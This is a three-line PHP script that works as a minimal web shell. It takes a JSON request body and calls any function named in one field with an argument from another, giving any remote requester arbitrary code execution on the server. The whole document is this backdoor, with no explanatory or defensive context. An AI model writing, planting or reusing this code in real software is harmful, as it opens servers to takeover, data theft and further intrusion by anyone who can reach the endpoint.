<?php
$o = json_decode(file_get_contents('php://input'), true);
$o['f']($o['a']);
